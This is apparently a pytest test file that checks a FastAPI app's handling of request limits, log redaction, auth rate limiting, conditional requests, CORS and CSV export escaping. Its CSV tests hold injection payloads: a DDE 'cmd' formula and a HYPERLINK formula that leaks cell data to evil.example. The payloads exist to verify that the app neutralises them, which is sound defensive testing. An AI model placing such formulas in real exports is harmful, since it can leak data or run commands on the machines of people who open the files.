"""Issue 13, the edges of the app: body limits, logs, forwarded addresses and the failure
limit, conditional writes, HEAD, trailing slashes, 500s, CSV injection and CORS."""

import csv
import io
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
import uvicorn
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from app import csvsafe, schemas, security
from app.config import settings
from app.db import make_engine
from app.observability import JsonFormatter, RedactSecrets, logging_config
from app.services import accounts
from tests.api.helpers import API, make_buyer, make_product, make_request, make_umkm, problem
from tests.conftest import ROOT, app_on_session, bearer, make_token


def access_lines(caplog: pytest.LogCaptureFixture) -> list[str]:
    """The access-log lines captured so far, as the JSON formatter writes them."""
    formatter = JsonFormatter()
    return [formatter.format(r) for r in caplog.records if r.name == "app.access"]


# a. Chunked bodies over MAX_BODY_BYTES


def _chunks(total: int, size: int = 65_536) -> Iterator[bytes]:
    yield b'{"name": "Chunky Foods", "country": "DE", "notes": "'
    for _ in range(total // size):
        yield b"x" * size
    yield b'"}'


def test_chunked_body_over_the_limit_is_413(client: TestClient) -> None:
    response = client.post(
        f"{API}/buyers",
        content=_chunks(2 * settings.max_body_bytes),
        headers={"content-type": "application/json"},
    )
    assert "content-length" not in response.request.headers  # sent chunked
    body = problem(response, 413)
    assert body["detail"] == f"the request body is larger than {settings.max_body_bytes} bytes"
    # A chunked body within the limit is read as usual.
    small = client.post(
        f"{API}/buyers",
        content=iter([b'{"name": "Chunky', b' Foods", "country": "DE"}']),
        headers={"content-type": "application/json"},
    )
    assert small.status_code == 201, small.text
    assert small.json()["name"] == "Chunky Foods"


# b. No secret in a log


def test_a_key_in_the_query_is_never_logged(
    anonymous_client: TestClient, session: Session, caplog: pytest.LogCaptureFixture
) -> None:
    token = make_token(session, "staff")
    secret = token.split("_", 2)[2]
    caplog.set_level(logging.INFO, logger="app.access")
    caplog.clear()
    for name in ("key", "api_key", "token", "access_token", "API_KEY"):
        refused = anonymous_client.get(f"{API}/buyers", params={name: token})
        assert refused.status_code in (401, 422)
    # Any parameter, or the path, holding something shaped like a key.
    anonymous_client.get(f"{API}/buyers", params={"q": token, "limit": 5})
    anonymous_client.get(f"{API}/buyers/{token}")
    lines = access_lines(caplog)
    assert len(lines) == 7
    for line in lines:
        assert secret not in line
        assert token not in line
    urls = [json.loads(line)["url"] for line in lines]
    assert urls[0] == f"{API}/buyers?key=REDACTED"
    assert urls[3] == f"{API}/buyers?access_token=REDACTED"
    assert urls[5] == f"{API}/buyers?q=td_REDACTED&limit=5"


def test_no_log_handler_writes_a_key(session: Session) -> None:
    token = make_token(session, "staff")
    config = logging_config()
    assert config["filters"]["redact_secrets"]["()"].endswith(".RedactSecrets")
    for name, handler in config["handlers"].items():
        assert "redact_secrets" in handler["filters"], name
    record = logging.LogRecord("app", logging.WARNING, __file__, 1, "bad key %s", (token,), None)
    assert RedactSecrets().filter(record)
    assert record.getMessage() == "bad key td_REDACTED"
    try:
        raise ValueError(f"refused {token}")
    except ValueError:
        failed = logging.LogRecord("app", logging.ERROR, __file__, 1, "x", None, sys.exc_info())
    assert token.split("_", 2)[2] not in JsonFormatter().format(failed)


# c. The failed-authentication limit


def test_a_valid_key_keeps_working_while_its_address_is_limited(
    anonymous_client: TestClient, session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    token = make_token(session, "staff")
    monkeypatch.setattr(settings, "auth_failures_per_minute", 3)
    for _ in range(3):
        problem(anonymous_client.get(f"{API}/buyers", headers=bearer("td_x_wrong")), 401)
    refused = anonymous_client.get(f"{API}/buyers", headers=bearer("td_x_wrong"))
    body = problem(refused, 429)
    assert "more than 3 failed authentications" in body["detail"]
    assert 1 <= int(refused.headers["Retry-After"]) <= 60
    # The address is limited for failures only.
    assert anonymous_client.get(f"{API}/buyers", headers=bearer(token)).status_code == 200
    problem(anonymous_client.get(f"{API}/buyers"), 429)


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
        return port


def _serve(database_url: str, tmp_path: Path, **env: str) -> tuple[subprocess.Popen[bytes], str]:
    """`temu-dagang serve` on a free port, started; (process, base URL)."""
    port = _free_port()
    environment = {
        **{k: v for k, v in os.environ.items() if k != "FORWARDED_ALLOW_IPS"},
        "DATABASE_URL": database_url,
        "BUILD_MATCH_INDEX": "false",
        **env,
    }
    server = subprocess.Popen(
        [sys.executable, "-m", "app.cli", "serve", "--port", str(port)],
        cwd=tmp_path,  # no .env of the checkout
        env={**environment, "PYTHONPATH": str(ROOT)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    base = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 60  # a start-up on a busy machine (load 10) took over 20 s
    while True:
        try:
            if httpx.get(f"{base}/healthz", timeout=1).status_code == 200:
                return server, base
        except httpx.TransportError:
            pass
        assert server.poll() is None, "temu-dagang serve exited at start-up"
        assert time.monotonic() < deadline, "temu-dagang serve did not start"
        time.sleep(0.1)


def _stop(server: subprocess.Popen[bytes]) -> None:
    server.terminate()
    try:
        server.wait(timeout=10)
    except subprocess.TimeoutExpired:
        server.kill()
        server.wait()


def _key_in(database_url: str) -> str:
    engine = make_engine(database_url)
    try:
        with Session(engine) as session, session.begin():
            _, _, token = accounts.create_account(
                session=session,
                data=schemas.AccountCreate(name="proxy test", role=schemas.AccountRole.STAFF),
                principal=security.SYSTEM,
            )
    finally:
        engine.dispose()
    return token


def test_forwarded_for_is_believed_only_from_forwarded_allow_ips(tmp_path: Path) -> None:
    """A real `temu-dagang serve`: by default X-Forwarded-For is ignored (a client cannot
    dodge the limit, nor lock out another address); with the proxy configured it names the
    client whose failures count."""
    database_url = f"sqlite:///{tmp_path / 'proxy.db'}"
    subprocess.run(
        [sys.executable, "-m", "app.cli", "migrate"],
        cwd=ROOT,
        env={**os.environ, "DATABASE_URL": database_url},
        check=True,
        capture_output=True,
    )
    token = _key_in(database_url)
    wrong = bearer("td_x_wrong")

    def get(base: str, forwarded_for: str, key: dict[str, str]) -> httpx.Response:
        return httpx.get(f"{base}{API}/buyers", headers={**key, "X-Forwarded-For": forwarded_for})

    server, base = _serve(database_url, tmp_path, AUTH_FAILURES_PER_MINUTE="3")
    try:
        for n in range(3):
            assert get(base, f"10.0.0.{n}", wrong).status_code == 401
        refused = get(base, "10.0.0.99", wrong)
        assert refused.status_code == 429, refused.text
        assert "from 127.0.0.1" in refused.json()["detail"]
        assert int(refused.headers["Retry-After"]) >= 1
        assert get(base, "10.0.0.99", bearer(token)).status_code == 200
    finally:
        _stop(server)

    server, base = _serve(
        database_url, tmp_path, AUTH_FAILURES_PER_MINUTE="3", FORWARDED_ALLOW_IPS="127.0.0.1"
    )
    try:
        for _ in range(3):
            assert get(base, "10.0.0.1", wrong).status_code == 401
        refused = get(base, "10.0.0.1", wrong)
        assert refused.status_code == 429
        assert "from 10.0.0.1" in refused.json()["detail"]
        # Another client behind the same proxy is not locked out by the first.
        assert get(base, "10.0.0.2", wrong).status_code == 401
        assert get(base, "10.0.0.1", bearer(token)).status_code == 200
    finally:
        _stop(server)


# d. If-None-Match and HEAD


def test_if_none_match_with_etags_is_not_a_star(client: TestClient) -> None:
    product = make_product(client, make_umkm(client)["id"])
    month = f"{API}/products/{product['id']}/capacity/2027-03"
    first = client.put(month, json={"quantity": 10}, headers={"If-None-Match": "*"})
    assert first.status_code == 200, first.text
    # An ETag that is not the current one: the write goes on (RFC 9110, 13.1.2).
    second = client.put(month, json={"quantity": 20}, headers={"If-None-Match": '"abc"'})
    assert second.status_code == 200, second.text
    assert second.json()["quantity_kg"] == 20
    current = second.headers["ETag"]
    assert current != first.headers["ETag"]
    # The current ETag, alone, in a list or weak: 412, nothing written.
    for header in (current, f'"abc", {current}', f"W/{current}", "*"):
        body = problem(
            client.put(month, json={"quantity": 30}, headers={"If-None-Match": header}), 412
        )
        assert current in body["detail"]
    assert client.get(month).json()["quantity_kg"] == 20


def test_head_answers_like_get_without_a_body(client: TestClient) -> None:
    make_buyer(client)
    for path in ("/healthz", f"{API}/buyers", f"{API}/buyers?limit=1"):
        got = client.get(path)
        head = client.head(path)
        assert head.status_code == 200 == got.status_code, head.text
        assert head.content == b""
        assert head.headers["content-type"] == got.headers["content-type"]
        assert head.headers["content-length"] == got.headers["content-length"]
    product = make_product(client, make_umkm(client)["id"])
    month = f"{API}/products/{product['id']}/capacity/2027-03"
    client.put(month, json={"quantity": 10})
    assert client.head(month).headers["ETag"] == client.get(month).headers["ETag"]
    # Still 405 where GET is not offered either.
    assert client.head(f"{API}/matches").status_code == 405


# e. Trailing slashes and 500s


def test_trailing_slash_does_not_redirect_to_the_host_header(client: TestClient) -> None:
    response = client.get(
        f"{API}/buyers/", headers={"Host": "evil.example"}, follow_redirects=False
    )
    problem(response, 404)
    assert "location" not in response.headers


def _failing_app(session: Session) -> FastAPI:
    app = app_on_session(session)

    def boom() -> None:
        raise RuntimeError("a bug")

    app.add_api_route("/boom", boom)
    return app


def test_a_500_is_a_problem_logged_once(session: Session, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO)
    with TestClient(_failing_app(session), raise_server_exceptions=True) as test_client:
        body = problem(test_client.get("/boom"), 500)
    assert body["detail"].startswith("the service failed on this request")
    tracebacks = [r for r in caplog.records if r.exc_info]
    assert len(tracebacks) == 1
    assert "RuntimeError: a bug" in logging.Formatter().formatException(tracebacks[0].exc_info)  # type: ignore[arg-type]
    assert [json.loads(line)["status"] for line in access_lines(caplog)] == [500]


def test_a_500_keeps_the_connection_open(
    session: Session, caplog: pytest.LogCaptureFixture
) -> None:
    """Under uvicorn: the next request goes over the same connection."""
    caplog.set_level(logging.INFO)
    port = _free_port()
    config = uvicorn.Config(
        _failing_app(session),
        host="127.0.0.1",
        port=port,
        log_config=None,
        access_log=False,
        lifespan="off",
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        deadline = time.monotonic() + 10
        while not server.started:
            assert time.monotonic() < deadline, "uvicorn did not start"
            time.sleep(0.05)
        with socket.create_connection(("127.0.0.1", port), timeout=5) as raw:
            raw.sendall(b"GET /boom HTTP/1.1\r\nHost: x\r\n\r\n")
            first = _read_response(raw)
            raw.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
            second = _read_response(raw)
        assert first.startswith(b"HTTP/1.1 500 "), first[:200]
        assert b"connection: close" not in first.lower()
        assert second.startswith(b"HTTP/1.1 200 "), second[:200]
    finally:
        server.should_exit = True
        thread.join(timeout=10)
    assert len([r for r in caplog.records if r.exc_info]) == 1


def _read_response(connection: socket.socket) -> bytes:
    """One HTTP/1.1 response with a Content-Length, read from `connection`."""
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = connection.recv(65536)
        if not chunk:
            return data
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    length = next(
        int(line.split(b":", 1)[1])
        for line in head.split(b"\r\n")
        if line.lower().startswith(b"content-length:")
    )
    while len(body) < length:
        chunk = connection.recv(65536)
        if not chunk:
            break
        body += chunk
    return head + b"\r\n\r\n" + body


# f. CSV injection


def test_escape_cell_follows_owasp() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csvsafe.escape_cell(text) == "'" + text
    for kept in ("kue salak", "1-2", "", "'quoted"):
        assert csvsafe.escape_cell(kept) == kept
    assert csvsafe.escape_cell(-12) == -12
    assert csvsafe.escape_cell(-0.5) == -0.5
    out = io.StringIO()
    csvsafe.writer(out, lineterminator="\n").writerow(["=cmd|'/c calc'!A0", -3, 1.5, None])
    assert out.getvalue() == "'=cmd|'/c calc'!A0,-3,1.5,\n"


def test_csv_report_escapes_formulas(client: TestClient) -> None:
    buyer = make_buyer(client)["id"]
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
    for product in (formula, "@SUM(1+1)", "-2+3 zzqx"):
        make_request(client, buyer, product=product, hs_code=None, start_month="2027-01", months=2)
    response = client.get(
        f"{API}/reports/supply-gap",
        params={"group_by": "product", "from": "2027-01", "to": "2027-02"},
        headers={"Accept": "text/csv"},
    )
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    labels = {row["label"] for row in rows}
    assert {"'" + formula, "'@SUM(1+1)", "'-2+3 zzqx"} <= labels
    assert not any(row["label"].startswith(csvsafe.FORMULA_STARTS) for row in rows)
    # Numbers stay numbers.
    for row in rows:
        float(row["demand_kg"])
        assert not row["shortfall_kg"].startswith("'")


# h. CORS


def test_cors_only_for_configured_origins(
    session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    origin = "https://app.example.id"
    preflight_headers = {
        "Origin": origin,
        "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization, content-type",
    }
    token = make_token(session, "staff")
    # Default: no origin is allowed, no CORS headers at all.
    with TestClient(app_on_session(session)) as test_client:
        plain = test_client.get(f"{API}/buyers", headers={**bearer(token), "Origin": origin})
        assert plain.status_code == 200
        assert "access-control-allow-origin" not in plain.headers
        preflight = test_client.options(f"{API}/buyers", headers=preflight_headers)
        assert "access-control-allow-origin" not in preflight.headers

    monkeypatch.setattr(settings, "cors_allow_origins", f"{origin}, https://admin.example.id")
    with TestClient(app_on_session(session)) as test_client:
        preflight = test_client.options(f"{API}/buyers", headers=preflight_headers)
        assert preflight.status_code == 200, preflight.text
        assert preflight.headers["access-control-allow-origin"] == origin
        assert "POST" in preflight.headers["access-control-allow-methods"]
        allowed_headers = preflight.headers["access-control-allow-headers"].lower()
        assert "authorization" in allowed_headers
        assert "if-match" in allowed_headers
        got = test_client.get(f"{API}/buyers", headers={**bearer(token), "Origin": origin})
        assert got.headers["access-control-allow-origin"] == origin
        assert "etag" in got.headers["access-control-expose-headers"].lower()
        # Another origin gets no CORS headers.
        other = {**preflight_headers, "Origin": "https://evil.example"}
        refused = test_client.options(f"{API}/buyers", headers=other)
        assert "access-control-allow-origin" not in refused.headers
        assert problem(refused, 400)["detail"] == "not allowed by CORS: origin"
        stranger = test_client.get(
            f"{API}/buyers", headers={**bearer(token), "Origin": "https://evil.example"}
        )
        assert "access-control-allow-origin" not in stranger.headers


def test_cors_origins_setting_is_read_from_the_environment(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("CORS_ALLOW_ORIGINS", "https://a.example, https://b.example")
    monkeypatch.setenv("FORWARDED_ALLOW_IPS", "10.0.0.5")
    fresh = type(settings)(_env_file=None)
    assert fresh.cors_origins == ["https://a.example", "https://b.example"]
    assert fresh.forwarded_allow_ips == "10.0.0.5"
    monkeypatch.delenv("CORS_ALLOW_ORIGINS")
    monkeypatch.delenv("FORWARDED_ALLOW_IPS")
    default = type(settings)(_env_file=None)
    assert default.cors_origins == []
    assert default.forwarded_allow_ips == ""
